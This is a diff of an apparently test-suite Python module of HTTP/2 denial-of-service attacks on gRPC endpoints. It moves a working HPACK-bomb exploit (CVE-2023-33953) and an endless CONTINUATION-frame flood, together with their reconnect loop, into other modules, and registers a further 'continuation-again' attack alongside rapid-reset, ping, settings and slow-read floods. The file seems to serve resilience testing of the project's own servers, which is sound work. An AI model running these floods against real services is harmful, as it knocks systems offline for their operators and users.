@@ -10,66 +10,31 @@ import zlib
 from typing import TYPE_CHECKING, Final
 
 from hyperframe.frame import (
-    ContinuationFrame,
-    HeadersFrame,
     PingFrame,
     PriorityFrame,
     SettingsFrame,
     WindowUpdateFrame,
 )
 
+from tests.attack.header_attacks import continuation_again, continuation_flood, hpack_bomb
+from tests.attack.tally import BURST, PAUSE_S, Tally, again
 from tests.attack.wire import Connection, Gone, headers, message
 
 if TYPE_CHECKING:
     from collections.abc import Awaitable, Callable
 
-    Attack = Callable[[str, "Tally"], Awaitable[None]]
+    Attack = Callable[[str, Tally], Awaitable[None]]
 
 INITIAL_WINDOW_SIZE: Final = SettingsFrame.INITIAL_WINDOW_SIZE
-BURST: Final = 100
 CONNECTIONS: Final = 10
 IDLE_CONNECTIONS: Final = 3_000
 BOMB_BYTES: Final = 128 << 20
-PAUSE_S: Final = 0.05
 WATCH: Final = "/grpc.health.v1.Health/Watch"
 REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 CONNECT: Final = "/podium.v1.WorkerService/Connect"
 START: Final = "/conductor.grpc.workflows.WorkflowService/StartWorkflow"
 BIGGEST_FILE: Final = b"\x22\x24conductor.grpc.tasks.TaskService"
 """A reflection request (field 4: the file that has this symbol); its answer is some KB."""
-
-
-class Tally:
-    """`acts`: what was done; `sent_away`: connections that the server closed."""
-
-    def __init__(self) -> None:
-        self.acts = 0
-        self.connections = 0
-        self.sent_away = 0
-
-
-async def again(
-    address: str,
-    tally: Tally,
-    act: Callable[[Connection], Awaitable[None]],
-    *,
-    settings: dict[int, int] | None = None,
-) -> None:
-    """`act` on a connection, and on a new one when that is gone; it returns only by Gone."""
-    while True:
-        try:
-            connection = await Connection.open(address, settings=settings)
-        except (OSError, TimeoutError):
-            await asyncio.sleep(PAUSE_S)
-            continue
-        tally.connections += 1
-        try:
-            await act(connection)
-        except Gone:
-            tally.sent_away += 1
-            await asyncio.sleep(0)
-        finally:
-            connection.close()
 
 
 async def rapid_reset(address: str, tally: Tally) -> None:
@@ -113,49 +78,6 @@ def window(stream_id: int, increment: int) -> bytes:
     frame = bytearray(WindowUpdateFrame(stream_id, window_increment=1).serialize())
     frame[-4:] = increment.to_bytes(4, "big")
     return bytes(frame)
-
-
-async def hpack_bomb(address: str, tally: Tally) -> None:
-    """CVE-2023-33953: one header in the table, named over and over: 16 KB that mean 60 MB."""
-
-    async def act(connection: Connection) -> None:
-        head = connection.block(headers())
-        value = b"a" * 4_000
-        # Literal with incremental indexing, new name: entry 62 from then on.
-        entry = b"\x40\x01x\x7f" + integer(len(value) - 127) + value
-        connection.headers(head + entry, end_stream=True)
-        while True:
-            connection.headers(connection.block(headers()) + b"\xbe" * 15_000, end_stream=True)
-            tally.acts += 1
-            await connection.flush()
-
-    await again(address, tally, act)
-
-
-def integer(value: int) -> bytes:
-    """HPACK's continuation of an integer."""
-    found = b""
-    while value > 127:
-        found += bytes((value & 127 | 128,))
-        value >>= 7
-    return found + bytes((value,))
-
-
-async def continuation_flood(address: str, tally: Tally) -> None:
-    """Headers that never end."""
-
-    async def act(connection: Connection) -> None:
-        stream_id = connection.stream()
-        connection.write(HeadersFrame(stream_id, data=connection.block(headers())).serialize())
-        while True:
-            for number in range(BURST):
-                filler = b"\x00\x04" + number.to_bytes(4, "big").hex()[:4].encode() + b"\x05value"
-                frame = ContinuationFrame(stream_id, data=filler * 100)
-                connection.write(frame.serialize())
-            tally.acts += BURST
-            await connection.flush()
-
-    await again(address, tally, act)
 
 
 async def ping_flood(address: str, tally: Tally) -> None:
@@ -376,6 +298,7 @@ ATTACKS: Final[dict[str, Attack]] = {
     "made-you-reset": made_you_reset,
     "hpack-bomb": hpack_bomb,
     "continuation-flood": continuation_flood,
+    "continuation-again": continuation_again,
     "ping-flood": ping_flood,
     "settings-flood": settings_flood,
     "slow-read": slow_read,
